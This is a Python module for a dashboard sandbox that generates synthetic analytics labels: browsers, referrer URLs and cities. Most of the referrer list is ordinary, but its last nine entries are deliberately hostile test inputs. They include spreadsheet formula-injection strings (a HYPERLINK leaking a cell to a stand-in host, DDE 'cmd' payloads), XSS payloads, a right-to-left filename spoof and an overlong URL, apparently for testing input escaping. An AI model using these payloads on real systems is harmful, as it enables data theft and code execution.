"""What the labels of the reports are: browsers, referrers (some of them hostile), and 300 real cities."""

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date
from functools import cache
from math import sin
from pathlib import Path
from random import Random
from typing import Final, NamedTuple

from dashboard.sandbox.analytics.account import chance, dice

# name, weight, how much stronger it is at weekends
BROWSERS: Final = (
    ("Chrome", 520.0, 0.96),
    ("Safari", 214.0, 1.08),
    ("Samsung Internet", 82.0, 1.12),
    ("Edge", 58.0, 0.62),
    ("Firefox", 43.0, 0.95),
    ("Instagram", 31.0, 1.3),
    ("Opera", 19.0, 1.0),
    ("Android WebView", 12.0, 1.05),
    ("Brave", 9.0, 1.0),
    ("Facebook", 6.0, 1.25),
    ("DuckDuckGo", 4.0, 1.0),
    ("UC Browser", 2.0, 1.0),
)

_LONG: Final = "https://ads.example/r?" + "&".join(f"utm_step_{n}=cafe-especial-serra-alta-{n:03}" for n in range(52))
REFERRERS: Final = (
    ("https://serra-alta.example/lancamento", 300.0, 1.0),
    ("(direct)", 214.0, 1.0),
    ("https://l.instagram.com/", 163.0, 1.35),
    ("https://cursos.serra-alta.example/aulas/3", 100.0, 0.55),
    ("https://www.google.com/", 58.0, 0.95),
    ("https://cursos.serra-alta.example/aulas/1", 52.0, 0.5),
    ("https://boletim.estudio-mare.example/novembro", 30.0, 0.8),
    ("https://www.google.com.br/", 28.0, 0.95),
    ("https://serra-alta.example/", 26.0, 1.0),
    ("https://serra-alta.example/loja/microlote-7", 24.0, 1.15),
    ("https://l.facebook.com/", 21.0, 1.2),
    ("https://web.whatsapp.com/", 19.0, 1.0),
    ("https://www.youtube.com/", 17.0, 1.15),
    ("https://www.linkedin.com/", 12.0, 0.4),
    ("android-app://com.google.android.gm/", 11.0, 0.7),
    ("https://t.co/", 9.0, 1.1),
    ("https://www.google.pt/", 8.0, 0.95),
    ("https://boletim.estudio-mare.example/outubro", 8.0, 0.8),
    ("https://escola-do-cafe.example/turmas/2026", 8.0, 0.5),
    ("https://cooperativa.serra-alta.example/associados", 7.0, 0.6),
    ("https://revista-do-grao.example/melhores-cafes-do-ano", 7.0, 1.1),
    ("https://www.pinterest.com/", 5.0, 1.3),
    ("https://duckduckgo.com/", 5.0, 1.0),
    ("https://www.bing.com/", 5.0, 0.7),
    ("https://forum.baristas.example/viewtopic.php?t=4821&start=40", 4.0, 1.1),
    ("https://baristas.example/foro/metodos/v60?pagina=2", 4.0, 1.1),
    ("https://tueste.example/blog/altura-y-dulzor", 4.0, 1.0),
    ("https://slowbrew.example/stories/serra-alta", 4.0, 1.05),
    ("https://feira-do-cafe.example/expositores", 3.0, 0.9),
    ("https://xn--caf-dma.example/mapa?cidade=S%C3%A3o%20Paulo", 2.0, 1.0),
    ("http://localhost:3000/", 1.2, 0.2),
    ('=HYPERLINK("https://prize.example/?leak="&A1,"You won")', 1.0, 1.0),
    ("@SUM(1+1)*cmd|' /C calc'!A0", 0.8, 1.0),
    ("+5535999990000", 0.7, 1.0),
    ("-2+3+cmd|' /C calc'!A0", 0.6, 1.0),
    ("<script>alert(document.domain)</script>", 0.9, 1.0),
    ('"><img src=x onerror=alert(1)>', 0.7, 1.0),
    ("javascript:fetch('/dashboard/').then(alert)", 0.8, 1.0),
    ("https://\u0642\u0647\u0648\u0629.example/\u202egpj.exe", 0.7, 1.0),
    (_LONG, 0.6, 1.0),
)
"""The last nine were chosen by somebody hostile, or careless: formulas, markup, a script address, right-to-left, too long."""


class City(NamedTuple):
    """A place with viewers. `country` is a two-letter code; coordinates are in degrees."""

    name: str
    region: str
    country: str
    latitude: float
    longitude: float
    weight: float


@cache
def all_cities() -> tuple[City, ...]:
    """The 300 cities, most of them where coffee is grown or loved."""
    lines = (Path(__file__).parent / "cities.tsv").read_text(encoding="utf-8").splitlines()[1:]
    rows = (line.split("\t") for line in lines)
    return tuple(City(row[0], row[1], row[2], float(row[3]), float(row[4]), float(row[5])) for row in rows)


@dataclass(frozen=True)
class Blend:
    """How the views of a day spread over labels: constant weights, weekend habits, slow drift, and luck."""

    key: str
    weights: Sequence[float]
    weekends: Sequence[float]

    def on(self, day: date) -> list[float]:
        """The weight of every label on this day."""
        luck: Random = dice(self.key, day.isocalendar()[:2])
        week = day.toordinal() / 7
        weekend = day.weekday() > 4
        return [
            weight
            * (habit if weekend else 1.0)
            * (1 + 0.22 * sin(week / (4 + label % 5) + label))
            * (0.8 + 0.4 * luck.random())
            for label, (weight, habit) in enumerate(zip(self.weights, self.weekends, strict=True))
        ]


def own_taste(key: str, labels: Sequence[str], weights: Sequence[float]) -> list[float]:
    """The weights as one account or video sees them: nobody's audience is the average one."""
    return [weight * (0.72 + 0.56 * chance(key, label)) for label, weight in zip(labels, weights, strict=True)]
